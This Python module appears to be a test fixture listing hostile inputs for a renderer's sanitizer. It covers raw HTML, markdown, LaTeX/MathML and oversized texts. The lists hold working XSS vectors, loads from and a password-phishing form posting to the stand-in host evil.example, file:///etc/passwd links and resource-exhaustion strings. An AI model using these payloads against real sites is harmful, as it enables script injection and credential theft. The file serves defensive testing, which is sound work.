"""Payloads of hostile texts: each tries to run, load, cover, submit or leave something behind."""

from __future__ import annotations

from html import escape

EVIL = "http://evil.example"
RUN = "window.pwned=1"


def _raw() -> list[str]:
    """HTML as it is: none of it may become an element."""
    events = (
        "onerror onload onclick onfocus onmouseover ontoggle onstart onbegin onanimationstart"
        " onpointerenter oncut onbeforetoggle"
    )
    tags = "img svg body input details marquee video audio div iframe object select"
    payloads = [
        f'<{tag} src=x {event}="{RUN}" autofocus open>'
        for tag, event in zip(tags.split(), events.split(), strict=True)
    ]
    return [
        *payloads,
        f"<script>{RUN}</script>",
        f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script\x20type='text/javascript'>{RUN}</script>",
        f"<script/x>{RUN}</script >",
        f"</script><script>{RUN}</script>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg/onload={RUN}>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><a xlink:href='javascript:{RUN}'><text x=20 y=20>x</text></a></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></use></svg>",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></math>",
        f"<math href='javascript:{RUN}'>x</math>",
        f"<table><td background='{EVIL}/x.png'>x</table>",
        f"<iframe src='{EVIL}'></iframe>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<object data='{EVIL}/x.swf'></object>",
        f"<embed src='{EVIL}/x'>",
        f"<applet code='{EVIL}/x'></applet>",
        f"<link rel=stylesheet href='{EVIL}/x.css'>",
        f"<link rel=prefetch href='{EVIL}/p'>",
        f"<link rel=dns-prefetch href='{EVIL}'>",
        f"<meta http-equiv=refresh content='0;url={EVIL}'>",
        f"<base href='{EVIL}/'>",
        f"<style>@import '{EVIL}/x.css';</style>",
        "<style>body{display:none}</style>",
        "<div style='position:fixed;inset:0;background:red;z-index:99999'>cover</div>",
        "<div style='position:absolute;top:-500px'>out</div>",
        f"<div style='background:url({EVIL}/x.png)'>x</div>",
        f"<div style='width:expression({RUN})'>x</div>",
        f"<form action='{EVIL}'><input name=password><button>Sign in</button></form>",
        f"<form><button formaction='javascript:{RUN}'>x</button></form>",
        f"<button form=x formaction='{EVIL}'>x</button>",
        "<input type=text name=q value=x>",
        "<textarea>x</textarea><select><option>x</select>",
        f"<isindex action='javascript:{RUN}' type=image>",
        "<dialog open>You are signed out</dialog>",
        "<p id=page>clobber</p><a id=reviewTheme>x</a><form name=body></form>",
        "<img name=cookie><img id=location>",
        f"<img src='{EVIL}/x.png'>",
        f"<img srcset='{EVIL}/x.png 1x'>",
        f"<picture><source srcset='{EVIL}/x.png'></picture>",
        f"<video poster='{EVIL}/x.png' src='{EVIL}/x.mp4'></video>",
        f"<audio src='{EVIL}/x.mp3' autoplay></audio>",
        f"<body background='{EVIL}/x.png' onload={RUN}>",
        f"<frameset onload={RUN}><frame src='{EVIL}'></frameset>",
        f"<template><script>{RUN}</script></template>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
        f"<noembed><img src=x onerror={RUN}></noembed>",
        f"<plaintext><img src=x onerror={RUN}>",
        f"<xmp><img src=x onerror={RUN}></xmp>",
        f"<title><img src=x onerror={RUN}></title>",
        f"<textarea><img src=x onerror={RUN}></textarea>",
        f"<!--><img src=x onerror={RUN}>-->",
        f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"<?xml version='1.0'?><script>{RUN}</script>",
        f"<a href='javascript:{RUN}'>x</a>",
        f"<a href='{EVIL}' ping='{EVIL}/ping'>x</a>",
        f"<area href='javascript:{RUN}'>",
        f"<img src=x:x onerror\n=\n{RUN}>",
        f"<img src=`x` onerror={RUN}>",
        f"<IMG SRC=x OnErRoR={RUN}>",
        f"<img/src/onerror={RUN}>",
        f"<<img src=x onerror={RUN}>",
        f'"><img src=x onerror={RUN}>',
        f"'><svg onload={RUN}>",
        f"--><svg onload={RUN}>",
        f"]]><svg onload={RUN}>",
        f"&lt;img src=x onerror={RUN}&gt;",
        f"&#60;script&#62;{RUN}&#60;/script&#62;",
        f"\u202e<script>{RUN}</script>",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"\x00<scr\x00ipt>{RUN}</script>",
        "<slot></slot><custom-element is=x></custom-element>",
        "<p class='card primary' hidden>x</p>",
        "<div popover id=p>x</div><button popovertarget=p>x</button>",
        "<main role=alert aria-live=assertive>Server down</main>",
    ]


def _markdown() -> list[str]:
    """What markdown itself makes elements of."""
    schemes = [
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f"&#106;avascript:{RUN}",
        f"javascript&colon;{RUN}",
        f"\x01javascript:{RUN}",
        f"vbscript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"data:text/html;base64,{'PHNjcmlwdD4='}",
        "file:///etc/passwd",
        f"blob:{EVIL}/x",
        "//evil.example/x",
        "/api/sign-out",
        "\\\\evil.example\\x",
    ]
    return [
        *(f"[click]({scheme})" for scheme in schemes),
        *(f"[click](<{scheme}>)" for scheme in schemes[:4]),
        *(f"![x]({scheme})" for scheme in schemes[:3]),
        f"![x]({EVIL}/x.png)",
        f'![x]({EVIL}/x.png "onerror={RUN}")',
        f"[![x]({EVIL}/x.png)]({EVIL})",
        f"![x][r]\n\n[r]: {EVIL}/x.png",
        f"[x][r]\n\n[r]: javascript:{RUN}",
        f"<javascript:{RUN}>",
        f"<{EVIL}/'onmouseover={RUN}>",
        f'[x]({EVIL} "\\" onmouseover={RUN} x=\\"")',
        f'[x](http://x"onclick="{RUN})',
        f"[a](http://x) `<img src=x onerror={RUN}>`",
        f"```<script>{RUN}</script>\nx\n```",
        f"```html\n</code></pre><script>{RUN}</script>\n```",
        f'```"><img src=x onerror={RUN}>\nx\n```',
        f'~~~ js" onload="{RUN}\nx\n~~~',
        f"    </code></pre><script>{RUN}</script>",
        f"| <img src=x onerror={RUN}> |\n|---|\n| <script>{RUN}</script> |",
        f"| a |\n|---|\n| [x](javascript:{RUN}) |",
        f'|a|\n|:-:" onload="{RUN}|\n|b|',
        f"# <img src=x onerror={RUN}>",
        f"> <script>{RUN}</script>",
        f"- <svg onload={RUN}>\n  - <svg onload={RUN}>",
        f"1. <iframe src={EVIL}>",
        f"*<img src=x onerror={RUN}>*",
        f"**[x](javascript:{RUN})**",
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"\\<script>{RUN}</script>",
        f"[^1]\n\n[^1]: <script>{RUN}</script>",
        f"<div>\n\n[x](javascript:{RUN})\n\n</div>",
    ]


def _formulas() -> list[str]:
    """What the reader of formulas makes elements of."""
    inside = [
        rf"\href{{javascript:{RUN}}}{{x}}",
        rf"\url{{javascript:{RUN}}}",
        rf"\text{{<img src=x onerror={RUN}>}}",
        rf"\text{{&lt;script&gt;{RUN}&lt;/script&gt;}}",
        rf"<mtext><script>{RUN}</script></mtext>",
        r"\style{position:fixed;inset:0}{x}",
        r"\class{card}{x}",
        r"\cssId{page}{x}",
        rf"\includegraphics{{{EVIL}/x.png}}",
        rf"\unicode{{x3c}}script>{RUN}",
        r"\color{red;position:fixed}{x}",
        r"\rule{9999em}{9999em}",
        r"\hspace{-9999px}x",
        r"\raise{-9999px}{x}",
        r"\Huge\Huge\Huge x",
        "{" * 600,
        r"\frac" * 200,
        rf"\def\x{{\x}}\x{RUN}",
        rf"\begin{{array}}{{c}} </math><script>{RUN}</script> \end{{array}}",
        rf"\require{{html}}\data{{x={RUN}}}{{y}}",
    ]
    return [f"${formula}$" for formula in inside] + [f"$$\n{formula}\n$$" for formula in inside[:5]]


def _shapes() -> list[str]:
    """Texts that want more room or time than a text should have."""
    return [
        "Z" + "\u0300\u0301\u0302\u0316\u0323" * 300,
        "W" * 30_000,
        "\u202e" * 200 + "txet",
        "\u2066\u2067" * 200 + "x",
        "[" * 20_000,
        "`" * 20_000 + "x",
        "> " * 5_000 + "deep",
        "- " * 5_000 + "deep",
        "*a **b " * 5_000,
        "|" * 5_000 + "\n" + "|-" * 2_500,
        "![" * 10_000,
        "\\(" * 10_000,
        "$a" * 10_000,
        "<" * 20_000,
        "&" * 20_000,
        "\n" * 20_000 + "end",
        escape("<b>") * 5_000,
        "x" * 300_000,
    ]


PAYLOADS = [*_raw(), *_markdown(), *_formulas(), *_shapes()]
